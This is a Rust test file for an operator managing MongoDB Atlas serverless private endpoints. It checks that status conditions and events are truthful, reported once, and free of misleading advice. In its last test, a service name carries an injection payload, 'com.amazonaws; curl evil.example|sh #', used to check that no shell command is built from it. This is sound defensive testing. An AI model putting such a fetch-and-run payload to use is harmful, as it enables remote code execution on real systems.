//! What is reported to people: that it is true, reported once, and useful to its reader.

use domain::fault::FaultKind;
use domain::reference::VpcEndpoint;
use domain::serverless::decision::{ConfirmedAbsence, ReleaseReason, Step};
use domain::serverless::event::{Announced, failure, of_change, of_step};
use domain::serverless::observed::{Listing, Observed, ReadyWhen, WriteOutcome};
use domain::serverless::ownership::ClaimReading;
use domain::status::Reported;
use domain::status::{ConditionType, EventReason, Reason};
use domain::sunset::Sunset;

use crate::strings::{events, published, reported};
use invariants::fixtures::{fault, id, observed, secs, shown, vpce};

#[test]
fn what_atlas_did_not_show_is_no_milestone() {
    // Somebody wrote into the status that the endpoint is available, and Atlas is unreachable.
    let mut forged = shown("AVAILABLE");
    forged.listing = Listing::Failed(fault(FaultKind::Unavailable));
    assert_eq!(events(&Reported::default(), &forged), [(EventReason::AtlasUnavailable, true)]);
    // Its earlier state is no news either: this process has reported it.
    let available = shown("AVAILABLE");
    let before = Announced::by(&reported(&available));
    assert_eq!(of_change(before, &available, &Step::Rest, &reported(&available)), []);
}

#[test]
fn a_vpc_endpoint_that_two_objects_declare_is_reported_once_beside_the_connection() {
    let o = shown("AVAILABLE");
    let mut shared = reported(&o);
    shared.shared_with(&vpce(1), "ServerlessPrivateEndpoint payroll");
    let connected = shared.get(ConditionType::EndpointConnected).unwrap();
    assert!(connected.message.contains("ServerlessPrivateEndpoint payroll"), "{}", connected.message);
    assert_eq!(shared.conditions[0], reported(&o).conditions[0], "Ready stays as it is");
    let tells = |before: Announced| -> Vec<_> {
        of_change(before, &o, &Step::Rest, &shared).iter().map(|notice| notice.reason).collect()
    };
    assert_eq!(tells(Announced::by(&reported(&o))), [EventReason::VpcEndpointShared]);
    assert_eq!(tells(Announced::by(&shared)), []);
    assert_eq!(tells(Announced::by_status(&published(&shared))), []);
}

#[test]
fn a_failure_is_named_once_for_the_log_and_what_is_well_is_none() {
    let failed = |o: &Observed| failure(&reported(o)).map(|(reason, message)| (reason, message.to_string()));
    assert_eq!(failed(&shown("AVAILABLE")), None);
    let mut waiting = shown("RESERVED");
    waiting.spec.as_mut().unwrap().ready_when = Some(ReadyWhen::Available);
    assert_eq!(failed(&waiting), None);
    let mut refused = shown("AVAILABLE");
    refused.listing = Listing::Failed(fault(FaultKind::Unauthorized));
    let message = "Atlas says Unauthorized (docs/troubleshooting.md#unauthorized)".to_owned();
    assert_eq!(failed(&refused), Some((Reason::Unauthorized, message)));
}

#[test]
fn costs_are_mentioned_only_where_a_vpc_endpoint_was_declared_or_connected() {
    let released = |o: &Observed| of_step(&Step::Release(ReleaseReason::Deleted), o).unwrap().message;
    let removing = |mut o: Observed| {
        o.object.deleting = true;
        reported(&o).conditions[0].message.to_string()
    };
    for (o, billed) in [(shown("AVAILABLE"), true), (shown("RESERVED"), false), (observed(), false)] {
        assert_eq!(released(&o).contains("billed"), billed, "{}", released(&o));
        let message = removing(o);
        assert_eq!(message.contains("billed"), billed, "{message}");
    }
    let mut declared = shown("RESERVED");
    declared.spec.as_mut().unwrap().vpc_endpoint = VpcEndpoint::Declared(vpce(1));
    assert!(released(&declared).contains("billed"));
}

#[test]
fn an_object_that_only_observes_gets_no_advice_to_change_anything() {
    let observing = |mut o: Observed| {
        let spec = o.spec.as_mut().unwrap();
        (spec.observe, spec.endpoint_id, spec.ready_when) = (true, Some(id(1)), Some(ReadyWhen::Available));
        o
    };
    let mut never = observing(Observed {
        listing: Listing::Fetched(Vec::new()),
        object: observed().object,
        ..shown("RESERVED")
    });
    never.object.claim = ClaimReading::Absent;
    never.memory.absent = Some((ConfirmedAbsence::Everything, secs(10)));
    let mut lost = observing(shown("RESERVED"));
    lost.listing = Listing::Fetched(Vec::new());
    lost.memory.absent = Some((ConfirmedAbsence::Everything, secs(10)));
    for (o, reason) in [
        (observing(shown("RESERVED")), Reason::AwaitingVpcEndpoint),
        (observing(shown("FAILED")), Reason::AtlasFailed),
        (never, Reason::EndpointNotFound),
        (lost, Reason::EndpointLost),
    ] {
        let ready = reported(&o).conditions[0].clone();
        assert_eq!(ready.reason, reason);
        for advice in ["aws ec2", "cloudProviderEndpointId", "a new endpoint is created", "emove"] {
            assert!(!ready.message.contains(advice), "{advice} is in {}", ready.message);
        }
    }
}

#[test]
fn what_is_refused_while_something_is_connected_names_what_restores_ready() {
    let mut o = shown("AVAILABLE");
    o.spec.as_mut().unwrap().vpc_endpoint = VpcEndpoint::Declared(vpce(2));
    o.memory.last_write = WriteOutcome::Refused(fault(FaultKind::Refused));
    let ready = reported(&o).conditions[0].clone();
    assert_eq!(ready.reason, Reason::AtlasRefused);
    assert!(ready.message.contains(&format!("{} is still connected", vpce(1))), "{}", ready.message);
}

#[test]
fn a_day_that_is_past_is_not_ahead() {
    let message = |is_over| {
        let mut o = shown("AVAILABLE");
        o.sunset = Some(Sunset { day: Some("2026-01-22".to_owned()), is_over, is_confirmed: true });
        reported(&o).get(ConditionType::ApiSunset).unwrap().message.to_string()
    };
    assert!(message(false).contains("switches this API off on 2026-01-22"), "{}", message(false));
    assert!(message(true).contains("2026-01-22, which is past"), "{}", message(true));
    assert!(!message(true).to_lowercase().contains("before"), "{}", message(true));
}

#[test]
fn no_deletion_is_advised_by_one_announcement_or_without_a_day() {
    let sunset = |day: Option<&str>, is_confirmed| {
        Some(Sunset { day: day.map(str::to_owned), is_over: day.is_some(), is_confirmed })
    };
    for listing in [shown("AVAILABLE").listing, Listing::Failed(fault(FaultKind::Unavailable))] {
        let mut o = Observed { listing, ..shown("AVAILABLE") };
        for day in [None, Some("2020-01-01")] {
            o.sunset = sunset(day, false);
            assert!(reported(&o).get(ConditionType::ApiSunset).is_none(), "{day:?}");
        }
        o.sunset = sunset(None, true);
        let message = reported(&o).get(ConditionType::ApiSunset).unwrap().message.to_string();
        assert!(
            !message.contains("delete") && message.contains("Check what Atlas has announced"),
            "{message}"
        );
    }
}

#[test]
fn a_service_name_that_aws_could_not_have_made_stands_in_no_command() {
    let mut o = shown("RESERVED");
    let Listing::Fetched(listing) = &mut o.listing else { return };
    listing[0].service_name = Some("com.amazonaws; curl evil.example|sh #".to_owned());
    o.spec.as_mut().unwrap().ready_when = Some(ReadyWhen::Available);
    let message = reported(&o).conditions[0].message.to_string();
    assert!(!message.contains("aws ec2"), "{message}");
}
